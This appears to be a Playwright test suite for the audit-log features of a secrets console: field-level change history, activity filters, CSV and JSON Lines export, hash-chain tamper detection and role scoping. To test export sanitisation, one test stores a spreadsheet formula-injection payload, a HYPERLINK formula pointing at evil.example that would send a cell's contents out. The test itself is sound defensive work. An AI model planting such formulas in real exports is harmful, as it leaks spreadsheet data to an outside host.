import { expect as expectValue, type Page } from '@playwright/test'
import { parse } from 'csv-parse/sync'
import { exportAs } from '../browser/download.ts'
import { createSecret, openEdit, replaceToken, submit } from '../browser/secrets.ts'
import { expect, test } from '../browser/test.ts'
import { ConsoleClient } from '../http/console-client.ts'
import { done, storeMany, storeSecret } from '../http/store.ts'
import { randomText } from '../leak-search/canary.ts'
import { editLog } from '../stack/edit-log.ts'
import { dayIn } from '../stack/time-zone.ts'

const csv = 'CSV, for a spreadsheet'
const entries = (page: Page) => page.getByRole('main').getByRole('listitem')
const entry = (page: Page, text: string | RegExp) => entries(page).filter({ hasText: text })
const chip = (page: Page, kind: string) =>
  page.getByRole('group', { name: 'Kind' }).getByRole('button', { name: new RegExp(`^${kind}`) })
const search = (page: Page) => page.getByLabel(/^Search (activity|change logs)$/)

async function choose(page: Page, menu: string, item: string): Promise<void> {
  await page.getByRole('button', { name: new RegExp(`^${menu}: `) }).click()
  await page.getByRole('menuitemradio', { name: item, exact: true }).click()
}

test('the log of a secret: who, when, from where and what, field by field, never a value', async ({
  pageOf,
  tenants: [tenant],
}) => {
  const page = await pageOf(tenant.people.domain_admin)
  const values = [randomText(24), randomText(24)]
  await createSecret(page, { alias: 'pay_key', type: 'token', value: values[0] ?? '', description: 'Card payments' })
  const drawer = await openEdit(page, 'pay_key')
  await drawer.getByLabel('Description').fill('Payments by card')
  await drawer.getByLabel('Expiration date').fill('2099-01-31')
  await submit(drawer)
  await expect(drawer).toBeHidden()
  await replaceToken(page, 'pay_key', values[1] ?? '', { allowedHosts: ['*.pay.example'], isLeaked: true })

  await page.getByRole('link', { name: 'pay_key', exact: true }).click()
  await page.getByRole('link', { name: 'Change Logs', exact: true }).click()
  await expect(entries(page)).toHaveCount(3)
  const [replaced, edited, created] = [entries(page).nth(0), entries(page).nth(1), entries(page).nth(2)]
  for (const each of [replaced, edited, created]) {
    await expect(each).toContainText('Lena Fischer Domain Admin')
    await expect(each).toContainText(/from (127\.0\.0\.1|::1) · Chrome/)
    await expect(each.locator('time')).toHaveAttribute('datetime', /^\d{4}-\d\d-\d\dT/)
  }
  await expect(created).toContainText('created it')
  await expect(edited).toContainText('edited')
  const change = (field: string) => edited.locator('dl > div').filter({ hasText: field })
  await expect(change('Description')).toContainText('from Card payments')
  await expect(change('Description')).toContainText('to Payments by card')
  await expect(change('Expiration date')).toContainText('none')
  await expect(change('Expiration date')).toContainText('2099')
  await expect(replaced).toContainText('replaced the value')
  await expect(replaced).toContainText('version 1 → 2')
  await expect(replaced).toContainText('the value is not logged')
  await expect(replaced).toContainText('the old value had leaked, so it was destroyed')
  await expect(replaced).toContainText('*.pay.example')

  await search(page).fill('by card')
  await expect(entries(page)).toHaveCount(1)
  await expect(page).toHaveURL(/tab=changes/)
  await expect(page).toHaveURL(/q=by(\+|%20)card/)
  const files = [await exportAs(page, csv), await exportAs(page, 'JSON Lines')]
  for (const text of [await page.content(), ...files.map((file) => file.text)]) {
    for (const value of values) expectValue(text.includes(value), 'a value in the log').toBe(false)
  }
  expect(files[1]?.text.trim().split('\n')).toHaveLength(1)
})

test('activity of the organization: search, kinds, who, about, days and pages, all in the address', async ({
  pageOf,
  stack,
  tenants: [tenant],
}) => {
  const place = { organization: tenant.slug, domain: 'europe' }
  const admin = await ConsoleClient.signedIn(stack, tenant.people.domain_admin)
  await storeMany(admin, place, 'bulk_', 110)
  const masked = await storeSecret(admin, place, 'shown_key', { visibility: 'masked' })
  await done(admin, 'revealSecretAction', { ...place, id: masked.id })

  const page = await pageOf(tenant.people.org_admin)
  await page.getByRole('navigation', { name: 'Organization' }).getByRole('link', { name: 'Activity' }).click()
  await expect(page.getByRole('heading', { level: 1, name: 'Activity' })).toBeVisible()
  await expect(entries(page)).toHaveCount(50)
  await page.getByRole('button', { name: 'Load more' }).click()
  await expect(entries(page)).toHaveCount(100)
  await page.getByRole('button', { name: 'Load more' }).click()
  await expect(entry(page, 'created the integration Weather')).toHaveCount(1)
  await expect(page.getByRole('button', { name: 'Load more' })).toHaveCount(0)
  await expect(entry(page, 'signed in').first()).toContainText('Marek Dvořák')

  await chip(page, 'Revealed').click()
  await expect(entries(page)).toHaveCount(1)
  await expect(entries(page)).toContainText('revealed the value of shown_key')
  await expect(chip(page, 'Revealed')).toHaveText('Revealed1')
  await page.reload()
  await expect(chip(page, 'Revealed')).toHaveAttribute('aria-pressed', 'true')
  await expect(entries(page)).toHaveCount(1)
  await page.goBack()
  await expect(chip(page, 'All')).toHaveAttribute('aria-pressed', 'true')
  await expect(entries(page)).toHaveCount(50)

  await choose(page, 'About', 'What uses secrets')
  await expect(page).toHaveURL(/group=integrations/)
  // Of every secret, one is left out; of what names them, each that the organization was made with is there.
  await expect(entries(page).filter({ hasText: 'bulk_' })).toHaveCount(0)
  await expect(
    entries(page)
      .filter({ hasText: /Weather|Forecast|hotline/ })
      .first(),
  ).toBeVisible()
  await choose(page, 'About', 'People and sign-ins')
  await choose(page, 'Who', 'Marek Dvořák')
  await expect(entries(page)).toHaveCount(1)
  await expect(entries(page)).toContainText('Marek Dvořák Org Admin signed in')
  await page.goBack()
  await expect(entries(page)).toHaveCount(2)
  await page.reload()
  await expect(entries(page)).toHaveCount(2)
  await choose(page, 'About', 'Anything')
  await choose(page, 'Domain', 'America')
  await expect(page.getByText('No entry matches these filters.')).toBeVisible()
  await page.getByRole('button', { name: 'Clear search and filters' }).click()
  await expect(entries(page)).toHaveCount(50)

  await search(page).fill('bulk_007')
  await expect(entries(page)).toHaveCount(1)
  await choose(page, 'When', 'Today')
  await expect(entries(page)).toHaveCount(1)
  await choose(page, 'When', 'Chosen days')
  await page.getByLabel('To', { exact: true }).fill('2020-01-01')
  await page.getByLabel('From', { exact: true }).fill('2019-01-01')
  await expect(page.getByText('No entry matches bulk_007 with these filters.')).toBeVisible()
  await expect(page).toHaveURL(/from=2019-01-01&to=2020-01-01|to=2020-01-01&from=2019-01-01/)
  await page.getByLabel('From', { exact: true }).fill('2021-01-01')
  await expect(page.getByText('The last day is before the first, so nothing can be found.')).toBeVisible()
  await page.getByLabel('To', { exact: true }).fill(dayIn('UTC'))
  await expect(entries(page)).toHaveCount(1)
  await entry(page, 'bulk_007').getByRole('link', { name: 'bulk_007' }).click()
  await expect(page.getByRole('heading', { level: 1, name: 'bulk_007' })).toBeVisible()
})

test('what is exported is what is shown, as CSV and JSON Lines, and no spreadsheet runs any of it', async ({
  pageOf,
  stack,
  tenants: [tenant],
}) => {
  const place = { organization: tenant.slug, domain: 'europe' }
  const owner = await ConsoleClient.signedIn(stack, tenant.people.owner)
  const value = randomText(24)
  const description = '=HYPERLINK("https://evil.example?"&A1,"Click")'
  const secret = await storeSecret(owner, place, 'pay_key', { value, description })
  await done(owner, 'editSecretAction', { ...place, ...secret, description: '+1', expiresOn: null })
  await storeMany(owner, place, 'bulk_', 60)
  const page = await pageOf(tenant.people.owner)
  await page.goto(`/${tenant.slug}/activity`)
  await expect(entries(page)).toHaveCount(50)
  const all = await exportAs(page, csv)
  expect(all.name).toMatch(new RegExp(`^${tenant.slug}-log.*\\.csv$`))
  const rows = parse(all.text, { columns: true, bom: true }) as Record<string, string>[]
  expect(rows.length).toBeGreaterThan(64)
  expect(rows.map(({ entry }) => Number(entry))).toEqual(rows.map((_, index) => rows.length - index))
  for (const cell of rows.flatMap((row) => Object.values(row))) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
  expect(all.text).toContain('HYPERLINK')
  expectValue(all.text.includes(value), 'a value in the file').toBe(false)

  await search(page).fill('pay_key')
  await expect(entries(page)).toHaveCount(2)
  const found = await exportAs(page, 'JSON Lines')
  const lines = found.text
    .trim()
    .split('\n')
    .map((line) => JSON.parse(line))
  expect(lines.map(({ action }) => action)).toEqual(['secret.edited', 'secret.created'])
  expect(lines[0].details.fields.Description).toEqual({ from: description, to: '+1' })
  expect(lines[0]).toMatchObject({ actorName: 'Ines Okafor', actorRole: 'Owner', subjectName: 'pay_key' })
  await page.goto(`/${tenant.slug}/activity`)
  await expect(entry(page, 'exported the log of')).toHaveCount(2)
})

test('Verify log: whole, until an entry is edited behind Postern’s back; then it is named', async ({
  pageOf,
  stack,
  tenants: [tenant],
}) => {
  const page = await pageOf(tenant.people.owner)
  const verify = async () => {
    await page.getByRole('button', { name: 'Verify log' }).click()
    await expect(page.getByRole('button', { name: 'Verify log' })).toBeEnabled()
  }
  const verdict = page.getByRole('main').getByRole('status').filter({ hasText: 'The log is ' })
  await page.goto(`/${tenant.slug}/activity`)
  await verify()
  await expect(verdict).toContainText('The log is whole.')
  await expect(verdict).toContainText(/All \d+ entries of Acme follow each other/)
  await page.context().grantPermissions(['clipboard-read', 'clipboard-write'])
  await verdict.getByRole('button', { name: 'Copy last hash' }).click()
  await expect.poll(() => page.evaluate(() => navigator.clipboard.readText())).toMatch(/^\d+:[0-9a-f]{64}$/)

  const sequence = await editLog(stack.databaseUrl, tenant.slug, 'integration_request.created')
  await verify()
  await expect(verdict).toContainText(`The log is broken. Entry ${sequence} was changed.`)
  await verdict.getByRole('link', { name: `Show entry ${sequence}` }).click()
  await expect(entries(page)).toHaveCount(1)
  await expect(entries(page)).toContainText('Nobody at all')
  await expect(entries(page)).toContainText('created the request Forecast')
  await page.goto(`/${tenant.slug}/activity`)
  await expect(entry(page, 'verified the log').first()).toContainText(`broken. Entry ${sequence} was changed.`)

  const other = await pageOf(tenant.people.domain_admin)
  await other.goto(`/${tenant.slug}/europe/secrets/${tenant.secretId}?tab=changes`)
  await other.getByRole('button', { name: 'Verify log' }).click()
  await expect(other.getByText(`Entry ${sequence} was changed.`)).toBeVisible()
})

test('what an Editor was refused stands in the log, equal attempts as one, and nothing was changed', async ({
  pageOf,
  stack,
  tenants: [tenant],
}) => {
  const place = { organization: tenant.slug, domain: 'europe' }
  const editor = await ConsoleClient.signedIn(stack, tenant.people.editor)
  for (let attempt = 0; attempt < 3; attempt++) {
    const input = { ...place, id: tenant.secretId, rowVersion: 1, confirmation: 'weather_fx' }
    const { result } = await editor.action('deleteSecretAction', [input])
    expect(result?.error?.code).toBe('not_permitted')
  }
  // Equal ones are collected for a minute.
  const admin = await ConsoleClient.signedIn(stack, tenant.people.domain_admin)
  const refusals = async () =>
    JSON.parse((await admin.get(`/api/console/${tenant.slug}/activity?kind=refused`)).text).items.length
  await expect.poll(refusals, { timeout: 80_000, intervals: [3000] }).toBe(1)
  const page = await pageOf(tenant.people.domain_admin)
  await page.goto(`/${tenant.slug}/activity?kind=refused`)
  await expect(entries(page)).toHaveCount(1)
  await expect(entries(page)).toContainText('Tom Abara Editor was refused to delete weather_fx 3 times within a minute')
  await page.goto(`/${tenant.slug}/europe/secrets/${tenant.secretId}?tab=changes`)
  await expect(entry(page, 'was refused to delete it 3 times within a minute')).toHaveCount(1)
})

test('a Domain Admin sees what happened in their domains, and nothing of another’s or of the organization’s', async ({
  pageOf,
  stack,
  tenants: [tenant],
}) => {
  const owner = await ConsoleClient.signedIn(stack, tenant.people.owner)
  await storeSecret(owner, { organization: tenant.slug, domain: 'america' }, 'us_key')
  await storeSecret(owner, { organization: tenant.slug }, 'shared.key')
  const seen = { domain_admin: ['weather_fx'], other_domain_admin: ['us_key'], owner: ['weather_fx', 'us_key'] }
  for (const [role, names] of Object.entries(seen)) {
    const page = await pageOf(tenant.people[role as 'owner'])
    await page.goto(`/${tenant.slug}/activity?group=secrets`)
    for (const name of names) await expect(entry(page, name).first(), `${name} for ${role}`).toBeVisible()
    for (const name of ['weather_fx', 'us_key', 'shared.key', 'crm.apiKey']) {
      if (names.includes(name) || role === 'owner') continue
      await expect(entry(page, name), `${name} for ${role}`).toHaveCount(0)
    }
    if (role === 'owner') await expect(entry(page, 'shared.key')).toHaveCount(1)
    else {
      const file = await exportAs(page, 'JSON Lines')
      for (const line of file.text.trim().split('\n')) expect(JSON.parse(line).domain?.slug ?? '').not.toBe('')
      expect(file.text).not.toContain('shared.key')
    }
  }
})
